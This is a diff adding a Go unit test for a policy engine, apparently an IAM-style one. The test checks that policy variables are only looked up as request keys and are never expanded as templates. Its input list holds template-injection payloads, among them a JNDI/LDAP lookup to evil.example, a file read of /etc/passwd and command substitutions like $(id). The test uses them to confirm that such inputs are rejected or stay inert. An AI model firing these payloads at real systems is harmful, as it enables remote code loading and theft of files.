@@ -1,6 +1,7 @@
 package policy
 
 import (
+	"encoding/json"
 	"net/url"
 	"slices"
 	"strings"
@@ -196,6 +197,51 @@ func TestThreat11IdentityValuesAreLiterals(t *testing.T) {
 				if got := allowed(doc, user, other); got != want {
 					t.Errorf("%s: user %q on %q: %v", doc, user, other, got)
 				}
+			}
+		}
+	}
+}
+
+// Threat 12: a policy's template reaches out: to the environment, a file, the network, a
+// function. Here a variable is the name of a key of the request and nothing else, it is
+// looked up once, and what it holds is never read as a template again.
+func TestThreat12VariablesOnlyLookUp(t *testing.T) {
+	for _, variable := range []string{
+		"${getSecretKey \"x\"}", "${getHostByName}", "${env.HOME}", "${aws:username | upper}", "${aws:username()}", "${$(id)}", "${`id`}",
+		"${{aws:username}}", "${${aws:username}}", "${aws:${aws:username}}", "${}", "${ }", "${*?}", "${**}", "${aws:username, ${aws:userid}}", "${aws:username, \"x\"}",
+		"${aws:username, 'x', 'y'}", "${aws:username 'x'}", "${\n}", "${aws:user\u0000name}", "${jndi:ldap://evil.example/a}", "${file:///etc/passwd?}",
+	} {
+		text, err := json.Marshal(variable)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, element := range []string{
+			`"Resource":` + strings.Replace(string(text), `"`, `"arn:`, 1),
+			`"Resource":"*","Condition":{"StringLike":{"aws:username":` + string(text) + `}}`,
+		} {
+			doc, err := Parse("p", Identity, []byte(st(`"Effect":"Allow","Action":"a:b",`+element)))
+			if err == nil && variable != "${jndi:ldap://evil.example/a}" {
+				t.Errorf("%s is taken for a variable", element)
+			}
+			if err != nil {
+				continue
+			}
+			// What has the form of a key is one: it is asked of the request, and of nothing else.
+			var asked askedKeys
+			Decide(&Set{Identity: []*Document{doc}}, &Request{Caller: callers["alice"], Actions: []string{"a:b"}, Resource: "arn:x", ResourceAccount: home, Context: &asked})
+			if slices.ContainsFunc(asked, func(key string) bool { return key != "jndi:ldap://evil.example/a" && key != "aws:username" }) {
+				t.Errorf("%s asks for %q", element, asked)
+			}
+		}
+	}
+	// A value, or a default, that is a variable's text stays text.
+	for resource, want := range map[string]bool{"arn:${aws:userid}": true, "arn:secret-id": false, "arn:alice": false} {
+		for _, text := range []string{"arn:${aws:username}", "arn:${aws:PrincipalTag/none, '${aws:userid'}}"} {
+			doc := mustParse(t, Identity, st(`"Effect":"Allow","Action":"a:b","Resource":"`+text+`"`))
+			r := &Request{Caller: callers["alice"], Actions: []string{"a:b"}, Resource: resource, ResourceAccount: home,
+				Context: mapContext{"aws:username": {"${aws:userid}"}, "aws:userid": {"secret-id"}}}
+			if got := Decide(&Set{Identity: []*Document{doc}}, r).Allowed; got != want {
+				t.Errorf("%s on %s: %v", text, resource, got)
 			}
 		}
 	}
